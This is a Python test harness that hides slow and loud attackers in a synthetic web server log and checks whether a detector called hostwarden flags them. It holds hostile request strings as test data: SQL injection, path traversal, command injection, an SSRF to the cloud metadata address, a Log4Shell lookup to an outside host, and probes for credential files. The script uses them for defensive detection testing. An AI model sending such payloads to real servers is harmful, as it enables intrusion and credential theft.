#!/usr/bin/env python3
"""Hides slow attackers among millions of addresses that come once, and looks whether they are found.

    scripts/hidden_attackers.py [--addresses 10000000] [--slow 400] [--seed 1]

Over one day: every address asks once, every second time for something that only an attacker asks for; visitors whose number of
requests follows Zipf's law browse; slow attackers ask for 12 different secrets over 4 hours, three an hour; ten loud ones try many
attacks in the last hour. The log goes through `hostwarden replay` by a pipe. Checked: every slow attacker gets on the watchlist, nobody
else does but the loud ones, the ten highest scores are those of the loud ones, memory stays under 48 MiB. Exits 1 if not.
"""

import argparse
import json
import os
import random
import re
import subprocess
import sys
import threading
import time

from exporter import binary

DAY = 86_400
START = 1_775_253_600  # 2026-04-03T22:00:00Z
LIMIT_BYTES = 48 << 20
SECRETS = [
    "/.env", "/.git/config", "/.aws/credentials", "/wp-config.php.bak", "/.ssh/id_rsa", "/.htpasswd", "/backup.sql", "/.svn/entries",
    "/.npmrc", "/config.php.bak", "/.docker/config.json", "/db.sql.gz", "/.git/HEAD", "/.env.production", "/.bash_history",
]
LOUD = [
    "/?q=1%27%20UNION%20SELECT%20password%20FROM%20users--", "/?f=../../../../etc/passwd", "/?x=%3Cscript%3Ealert(1)%3C/script%3E",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/?c=;cat%20/etc/passwd", "/shell.php?cmd=id", "/?u=http://169.254.169.254/latest/meta-data/",
    "/?x=$%7Bjndi:ldap://203.0.113.1/a%7D",
] + SECRETS


def address(number):
    """Spread over the public IPv4 space, another one for each number; networks that nobody may be accused from are left out."""
    value = (number * 2_654_435_761 + 12_345) % (1 << 32)
    first = 11 + (value >> 24) % 89  # 11.x to 99.x
    return f"{first}.{value >> 16 & 255}.{value >> 8 & 255}.{value & 255}"


def distinct(count, taken, start):
    found = []
    while len(found) < count:
        text = address(start)
        start += 1
        if text not in taken:
            taken.add(text)
            found.append(text)
    return found


def line(secs, client, path, status):
    hour, minute, second = secs // 3_600, secs // 60 % 60, secs % 60
    day, hour = (3, hour + 22) if hour < 2 else (4, hour - 2)
    return f'{client} - - [{day:02}/Apr/2026:{hour:02}:{minute:02}:{second:02} +0000] "GET {path} HTTP/1.1" {status} 512 "-" "Mozilla/5.0" 0.010\n'


def planned(arguments, rng):
    """The slow and the loud attackers' requests by second, and who they are."""
    taken = set()
    slow = distinct(arguments.slow, taken, 4_000_000_000)
    loud = distinct(10, taken, 3_900_000_000)
    by_second = {}
    for client in slow:
        begin = rng.randrange(0, DAY - 5 * 3_600)
        for hour in range(4):
            for n in range(3):
                at = begin + hour * 3_600 + n * 600 + rng.randrange(0, 300)
                by_second.setdefault(at, []).append((client, SECRETS[hour * 3 + n]))
    for rank, client in enumerate(loud):
        for n, path in enumerate(LOUD[: len(LOUD) - rank % 3]):
            by_second.setdefault(DAY - 3_500 + n * 100 + rank, []).append((client, path))
    return slow, loud, by_second, taken


def write(arguments, out, rng, by_second, taken):
    """The whole log in order."""
    one_shot = 0
    visitors = [address(2_000_000_000 + n) for n in range(200_000)]
    weights = [1 / (n + 1) for n in range(len(visitors))]
    crowd = rng.choices(visitors, weights, k=arguments.addresses // 10)
    with open(out, "w", buffering=1 << 20, encoding="ascii") as log:
        for secs in range(DAY):
            lines = []
            until = arguments.addresses * (secs + 1) // DAY
            while one_shot < until:
                client = address(one_shot)
                one_shot += 1
                if client not in taken:
                    lines.append(line(secs, client, SECRETS[one_shot % 15] if one_shot % 2 else "/", 404 if one_shot % 2 else 200))
            first, last = len(crowd) * secs // DAY, len(crowd) * (secs + 1) // DAY
            lines += [line(secs, client, f"/page/{n % 500}", 200) for n, client in enumerate(crowd[first:last])]
            lines += [line(secs, client, path, 404) for client, path in by_second.get(secs, [])]
            log.write("".join(lines))


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--addresses", type=int, default=10_000_000)
    parser.add_argument("--slow", type=int, default=400)
    parser.add_argument("--seed", type=int, default=1)
    arguments = parser.parse_args()
    rng = random.Random(arguments.seed)
    slow, loud, by_second, taken = planned(arguments, rng)
    found, page, peak = {}, {}, 0
    for output in ("json", "metrics"):
        read, wrote = os.pipe()
        replay = subprocess.Popen([binary(), "replay", "--format", "nginx_combined", "--output", output, "-"], stdin=read, stdout=subprocess.PIPE)
        os.close(read)
        writer = threading.Thread(target=write, args=(arguments, wrote, random.Random(arguments.seed), by_second, taken))
        texts = []
        reader = threading.Thread(target=lambda: texts.append(replay.stdout.read().decode()))
        writer.start()
        reader.start()
        while reader.is_alive():
            try:
                status = open(f"/proc/{replay.pid}/status", encoding="ascii").read()
                peak = max(peak, int(re.search(r"VmHWM:\s+(\d+) kB", status).group(1)) << 10)
            except (OSError, AttributeError):
                pass
            time.sleep(0.05)
        writer.join()
        if replay.wait() != 0:
            sys.exit(f"FAILED: replay ended with {replay.returncode}")
        if output == "json":
            for row in texts[0].splitlines():
                finding = json.loads(row)
                found.setdefault(finding["detector"], set()).add(finding.get("client"))
        else:
            for client, score in re.findall(r'suspicion_score\{client="([^"]+)",[^}]*\} ([0-9.]+)', texts[0]):
                page[client] = float(score)
    watched = found.get("slow_attacker", set())
    top = sorted(page, key=page.get, reverse=True)[:10]
    others = watched - set(slow) - set(loud)
    print(f"seed {arguments.seed}: {len(watched & set(slow))} of {len(slow)} slow attackers on the watchlist, {len(others)} others; ", end="")
    print(f"{len(set(top) & set(loud))} of the 10 highest scores are the loud ones'; peak {peak / (1 << 20):.1f} MiB")
    if not set(slow) <= watched or others or set(top) != set(loud) or peak > LIMIT_BYTES:
        sys.exit("FAILED")


if __name__ == "__main__":
    main()
